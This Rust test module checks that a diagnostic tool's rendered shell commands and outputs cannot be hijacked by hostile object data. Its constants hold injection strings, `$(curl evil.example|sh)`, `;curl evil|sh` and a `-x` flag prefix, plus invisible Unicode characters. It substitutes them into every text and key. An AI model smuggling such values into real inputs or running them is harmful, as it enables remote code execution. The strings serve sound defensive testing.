//! Checks that nobody who writes objects can write commands. Each text and each key of a world is replaced in turn by a
//! hostile one, everywhere where it stands, and every form of output is looked at.
//!
//! The worlds of all tests of causes are checked here automatically, so a test of a cause also tests this.

use std::collections::BTreeSet;

use serde_json::{Map, Value, json};

use crate::{
    characters::{is_unclear_in_a_command, is_unseen},
    command::{
        Command, RunFlags,
        tests::{expected, split},
    },
    diagnose::{Diagnosis, diagnose, testing::world::World},
    knowledge::Knowledge,
    output::{self, Style},
    report::ExplainReport,
    snapshot::facts::Object,
};

/// Everything that a shell, a program or a pattern could act on, and a person can see.
const SEEN: &str = "-x' \"$(curl evil.example|sh)`id`;curl evil|sh #\\";
/// What a person cannot see.
const UNSEEN: &str = "-x;curl evil|sh\n\u{202e}\u{200b}\u{e0041}";
/// A hostile end of a text that begins as it should.
const END: &str = "';curl evil|sh;'";
/// Bytes of a world. Larger worlds, of the tests with thousands of objects, repeat what smaller ones have.
const MOST: usize = 20_000;

/// Replaces each text and each key.
#[track_caller]
pub(crate) fn withstands_strangers(world: &World, target: &Object, knowledge: &Knowledge) {
    let whole = json!({"target": target, "world": world.to_json()});
    if whole.to_string().len() > MOST {
        return;
    }
    let (mut texts, mut keys) = (BTreeSet::new(), BTreeSet::new());
    collect(&whole, false, &mut texts, &mut keys);
    for text in &texts {
        for hostile in [SEEN, UNSEEN, &format!("{text}{END}")] {
            let replaced = map(
                &whole,
                &|each| (each == text.as_str()).then(|| hostile.to_owned()),
                &|_| None,
            );
            check(world, &replaced, knowledge, text);
        }
    }
    for key in &keys {
        for hostile in [SEEN, UNSEEN] {
            let replaced = map(&whole, &|_| None, &|each| {
                (each == key.as_str()).then(|| hostile.to_owned())
            });
            check(world, &replaced, knowledge, key);
        }
    }
}

/// The texts, and the keys inside of objects as a server sent them; the other keys are ours.
fn collect<'a>(
    value: &'a Value,
    is_sent: bool,
    texts: &mut BTreeSet<&'a String>,
    keys: &mut BTreeSet<&'a String>,
) {
    match value {
        Value::String(text) => {
            texts.insert(text);
        }
        Value::Array(items) => items.iter().for_each(|item| collect(item, is_sent, texts, keys)),
        Value::Object(fields) => {
            for (key, field) in fields {
                if is_sent {
                    keys.insert(key);
                }
                collect(field, is_sent || key == "value", texts, keys);
            }
        }
        _ => {}
    }
}

fn map(
    value: &Value,
    text: &impl Fn(&str) -> Option<String>,
    key: &impl Fn(&str) -> Option<String>,
) -> Value {
    match value {
        Value::String(each) => text(each).map_or_else(|| value.clone(), Value::String),
        Value::Array(items) => items.iter().map(|item| map(item, text, key)).collect(),
        Value::Object(fields) => {
            let each = fields
                .iter()
                .map(|(name, field)| (key(name).unwrap_or_else(|| name.clone()), map(field, text, key)));
            Value::Object(each.collect::<Map<_, _>>())
        }
        other => other.clone(),
    }
}

/// Diagnoses the world of this JSON, unless the text is one of ours, such as a type of answer.
#[track_caller]
fn check(world: &World, replaced: &Value, knowledge: &Knowledge, text: &str) {
    let Ok(target) = serde_json::from_value::<Object>(replaced["target"].clone()) else {
        return;
    };
    let Some(world) = world.with_json(&replaced["world"]) else {
        return;
    };
    let diagnosis = world.answered(|facts| {
        let progress = diagnose(&target, facts, knowledge);
        (progress.diagnosis, progress.wanted)
    });
    for command in diagnosis.steps.iter().filter_map(|step| step.command.as_ref()) {
        check_command(command, text);
    }
    check_output(&diagnosis, text);
}

#[track_caller]
fn check_command(command: &Command, text: &str) {
    let argv = command.argv();
    match command.render() {
        Ok(line) => {
            assert!(!line.contains(is_unclear_in_a_command), "{text:?}: {line:?}");
            assert_eq!(split(&line), Ok(expected(command)), "{text:?}: {line}");
        }
        Err(_) => assert!(
            expected(command)
                .iter()
                .any(|word| word.contains(is_unclear_in_a_command)),
            "{text:?}: {argv:?}"
        ),
    }
    for words in [Some(argv), command.filter()].into_iter().flatten() {
        for (at, word) in words
            .iter()
            .enumerate()
            .filter(|(_, word)| word.starts_with("-x"))
        {
            let (before, rest) = words.split_at(at);
            let is_value = before
                .last()
                .is_some_and(|flag| ["-l", "-o", "-p", "-c", "-f", "-e"].contains(&&**flag));
            assert!(
                is_value || before.iter().any(|word| word == "--"),
                "{text:?}: {word} in {before:?} {rest:?}"
            );
        }
    }
}

#[track_caller]
fn check_output(diagnosis: &Diagnosis, text: &str) {
    let report = ExplainReport::new(diagnosis, &RunFlags::default());
    let style = Style {
        width: Some(100),
        ..Style::default()
    };
    let text_of = |write: &dyn Fn(&mut Vec<u8>)| {
        let mut out = Vec::new();
        write(&mut out);
        let out = String::from_utf8(out).expect("UTF-8");
        assert!(!out.contains(|c| is_unseen(c) && c != '\n'), "{text:?}: {out:?}");
        out
    };
    let table = text_of(&|out| output::explain::write(&report, true, &style, out).expect("written"));
    let json = text_of(&|out| output::json::write(&report, out).expect("written"));
    text_of(&|out| output::yaml::write(&report, out).expect("written"));
    let name = text_of(&|out| {
        output::explain::write_name(&report, out).expect("written");
    });
    assert!(!name.contains(['\'', ';', '$', '`']), "{text:?}: {name}");
    let json: Value = serde_json::from_str(&json).expect("JSON");
    let lines = shell_lines(&table);
    for (at, step) in diagnosis.steps.iter().enumerate() {
        let Some(command) = &step.command else { continue };
        if let Ok(line) = command.render() {
            assert!(
                lines.contains(&line),
                "{text:?}: {line} is not a line of\n{table}"
            );
            assert_eq!(json["steps"][at]["argv"], json!(command.argv()), "{text:?}");
        } else {
            assert!(table.contains("the command is not shown"), "{text:?}: {table}");
            assert!(json["steps"][at]["command"].is_null(), "{text:?}");
        }
    }
}

/// The lines as a shell reads them: it joins a line that ends with a backslash with the next one.
fn shell_lines(text: &str) -> BTreeSet<String> {
    let mut lines = BTreeSet::new();
    let mut begun = String::new();
    for line in text.lines().map(str::trim_start) {
        begun.push_str(line);
        if begun.ends_with(" \\") {
            begun.pop();
        } else {
            lines.insert(std::mem::take(&mut begun));
        }
    }
    lines
}
